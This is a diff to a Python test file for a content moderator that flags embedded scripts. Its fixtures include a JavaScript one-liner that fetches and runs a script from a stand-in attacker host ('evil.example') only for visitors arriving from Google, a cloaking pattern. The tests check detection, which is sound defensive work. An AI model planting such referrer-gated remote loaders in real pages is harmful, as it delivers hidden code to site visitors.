@@ -23,13 +23,15 @@ def moderator() -> Moderator:
     return Moderator.load()
 
 
-def test_in_a_bundle_of_programs_what_is_loaded_says_nothing(moderator: Moderator) -> None:
-    load = "if(/baidu|google/.test(document.referrer)){$.getScript('https://ads.example/a.js')}"
-    assert moderator.check(f"{PROSE}<script>{load}</script>").action is Action.REVIEW
+def test_what_is_joined_by_commas_asks_for_itself(moderator: Moderator) -> None:
+    # Loaded whatever the referrer is, although that and an engine's name stand in front.
+    apart = "x||(r=document.referrer||'',p('google'),y&&$.getScript('https://ads.example/a.js'));"
+    assert moderator.check(f"{PROSE}<script>{apart}</script>").action is Action.ALLOW
+    asked = "x||(r=document.referrer,/google/.test(r)&&$.getScript('https://evil.example/a.js'));"
+    assert moderator.check(f"{PROSE}<script>{asked}</script>").action is Action.REVIEW
+    # However much else a script does.
     others = "".join(f"function f{number}(a){{return a+{number}}};" for number in range(300))
-    assert moderator.check(f"{PROSE}<script>{load}{others}</script>").action is Action.ALLOW
-    # Who is sent away is sent away, whatever else the script does.
-    assert moderator.check(f"{PROSE}<script>{SCRIPT}{others}</script>").action is Action.REVIEW
+    assert moderator.check(f"{PROSE}<script>{asked}{others}</script>").action is Action.REVIEW
 
 
 def under(moderator: Moderator, policy: Policy) -> Verdict:
